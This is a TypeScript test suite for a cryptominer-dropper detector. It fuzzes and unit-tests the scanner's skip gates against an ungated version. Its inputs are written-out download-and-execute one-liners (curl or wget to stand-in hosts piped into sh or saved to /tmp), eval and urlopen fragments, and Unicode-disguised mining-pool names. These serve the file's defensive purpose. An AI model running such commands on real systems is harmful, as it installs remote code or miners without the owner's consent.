// The scanner skips a stage when a string search says it cannot match (issue 10, item 7). A gate
// is only sound if the stage finds nothing whenever the gate is closed: these tests hold the gated
// scanner to the ungated one over every corpus and random texts, and aim inputs at the gates.
import { readFile } from 'node:fs/promises'
import fc from 'fast-check'
import t from 'tap'
import { parse } from 'yaml'
import { findDroppers } from '../../src/detect/droppers.ts'
import { findScriptDroppers } from '../../src/detect/script-droppers.ts'
import { compileSignalScanner, dropperGates, lowerCaseCopy, type ScannedText, type Signal } from '../../src/detect/signals.ts'
import { loadTechniques } from '../helpers/detection-corpus.ts'
import { fuzzRuns } from '../helpers/fuzz.ts'
import { defaultSignalData } from '../helpers/signal-data.ts'

const lists = await defaultSignalData()
const gated = compileSignalScanner(lists)
const ungated = compileSignalScanner(lists, { ungated: true })

function signalsOf(scan: typeof gated, texts: readonly string[]): Signal[] {
  const found: Signal[] = []
  scan(
    texts.map((text, index): ScannedText => ({ field: `args[${index}]`, text })),
    found,
  )
  return found
}

/** Every string in a corpus case, wherever it sits (command, env, ConfigMap data, annotations). */
function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value]
  if (Array.isArray(value)) return value.flatMap(stringsIn)
  if (typeof value === 'object' && value !== null) return Object.values(value).flatMap(stringsIn)
  return []
}

async function legacyCorpus(file: string): Promise<unknown[]> {
  return parse(await readFile(new URL(`../corpus/${file}`, import.meta.url), 'utf8')) as unknown[]
}

const cases = [
  ...(await loadTechniques()).flatMap((technique) => [...technique.miners, ...technique.benign]),
  ...(await legacyCorpus('miners.yaml')),
  ...(await legacyCorpus('benign.yaml')),
]

t.test('over every case of every corpus, the gated scanner finds exactly what the ungated one finds', async (t) => {
  let withSignals = 0
  const differing: string[] = []
  for (const entry of cases) {
    const texts = stringsIn(entry)
    const expected = signalsOf(ungated, texts)
    if (expected.length > 0) withSignals++
    // Each text alone too: a gate answers for the joined text, so a text alone meets it without its neighbours' literals.
    const alone = texts.map((text) => signalsOf(ungated, [text]))
    if (JSON.stringify(signalsOf(gated, texts)) !== JSON.stringify(expected)) differing.push(JSON.stringify(texts).slice(0, 200))
    texts.forEach((text, index) => {
      if (JSON.stringify(signalsOf(gated, [text])) !== JSON.stringify(alone[index])) differing.push(JSON.stringify(text).slice(0, 200))
    })
  }
  t.ok(cases.length > 500, `${cases.length} cases`)
  t.ok(withSignals > 150, `${withSignals} cases with signals: the comparison is not over empty results`)
  t.same(differing, [])
})

// Pieces of what the stages look for, and of what their gates look for, mixed with noise.
const piece = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 8 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 4 }) },
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      'curl http://203.0.113.9/x',
      ' 198.51.100.4:8080/m',
      'wget ',
      'WGET -O',
      '-o ',
      ' -O- ',
      '/tmp/',
      '/TMP/m',
      '/var/Tmp/',
      '/dev/shm/',
      '/DEV/SHM/',
      '| sh',
      '|bash',
      '| python3',
      '>',
      'chmod +x ',
      'chmod 755 ',
      'base64 -d',
      'xxd -r -p',
      '$(',
      '`',
      ')',
      '<(',
      '. ',
      'sh ',
      'eval ',
      'EVAL $',
      'eval get ',
      'eval+get"',
      'EVAL join"",<$s>',
      'eval<',
      'eval do{',
      'eval scalar',
      'IO::Socket',
      'socket(S,',
      'create_connection',
      'os.system',
      'subprocess.',
      'exec(',
      'urlopen',
      'b64decode',
      'LWP::',
      'stratum+tcp://',
      'pool.supportxmr.com',
      'pool.supportxmr\u3002com',
      '\uff53\uff55\uff50\uff50\uff4f\uff52\uff54xmr\uff0ecom',
      'support\u00adxmr.com',
      '\u00aa',
      'xmrig',
      '--donate-level=1',
      '-a rx/0',
      ':3333',
      '0x52908400098527886E0F7030069857D2E4169EE7',
      ' ',
      '\n',
      ';',
      '&',
      '"',
      "'",
      '\u00e9',
      '\u212a',
      '\u{1f600}',
    ),
  },
)
const texts = fc.array(
  fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join('')),
  { minLength: 1, maxLength: 4 },
)

t.test('over random texts built from the stages’ and the gates’ own literals, the gated scanner finds what the ungated one finds', async (t) => {
  t.doesNotThrow(() =>
    fc.assert(
      fc.property(texts, (given) => JSON.stringify(signalsOf(gated, given)) === JSON.stringify(signalsOf(ungated, given))),
      { seed: 20261202, numRuns: fuzzRuns(1000) },
    ),
  )
})

t.test('a closed dropper gate means findDroppers and findScriptDroppers find nothing, with or without a lower-cased copy', async (t) => {
  t.doesNotThrow(() =>
    fc.assert(
      fc.property(texts, (given) => {
        const text = `${given.join('\n')}\n`
        for (const lower of [lowerCaseCopy(text), undefined]) {
          const gates = dropperGates(text, lower)
          let droppers = false
          let scripts = false
          findDroppers(text, () => {
            droppers = true
          })
          findScriptDroppers(text, () => {
            scripts = true
          })
          if ((droppers && !gates.droppers) || (scripts && !gates.scripts)) return false
        }
        return true
      }),
      { seed: 20261203, numRuns: fuzzRuns(1000) },
    ),
  )
})

const kindsIn = (text: string) => signalsOf(gated, [text]).map((signal) => signal.kind)

t.test('a temporary directory in capitals, or beside a character that prevents the lower-cased copy, still opens the dropper gate', async (t) => {
  for (const neighbour of ['', ' \u212a', ' \u{1f600}']) {
    t.match(kindsIn(`wget -O /TMP/m http://h.example/m${neighbour}`), ['download-to-tmp'], `wget -O /TMP/${neighbour}`)
    t.match(kindsIn(`curl -o /Var/Tmp/m http://h.example/m${neighbour}`), ['download-to-tmp'], `curl -o /Var/Tmp/${neighbour}`)
    t.match(kindsIn(`chmod +x /DEV/SHM/m${neighbour}`), ['exec-from-tmp'], `chmod /DEV/SHM/${neighbour}`)
    t.match(kindsIn(`curl -fsSL http://h.example/i | SH${neighbour}`), ['download-to-shell'], `| SH${neighbour}`)
  }
})

t.test('a one-liner that executes without a parenthesis or a backtick is still read (the previous gate needed one of them)', async (t) => {
  for (const neighbour of ['', ' \u212a']) {
    t.same(kindsIn(`perl -e 'eval $p; urlopen'${neighbour}`), ['download-to-shell'], `eval $${neighbour}`)
    t.same(kindsIn(`EVAL $P; URLOPEN${neighbour}`), ['download-to-shell'], `EVAL in capitals${neighbour}`)
    t.same(kindsIn(`python -c "import os, urllib; os.system; urllib.urlopen"${neighbour}`), ['download-to-shell'], `os.system${neighbour}`)
    t.same(kindsIn(`python -c "import subprocess, base64; subprocess.call; base64.b64decode"${neighbour}`), ['decode-to-shell'], `subprocess.${neighbour}`)
  }
})

t.test('text that holds only what the old dropper gate looked for (-o, >, chmod) is skipped and finds nothing', async (t) => {
  for (const text of ['value-1-xxxx -o out.txt', 'echo done > result.log', 'chmod 0644 /etc/app/config', '--log-format=json -O2']) {
    t.same(dropperGates(text, lowerCaseCopy(text)).droppers, false, text)
    t.same(kindsIn(text), [], text)
  }
})
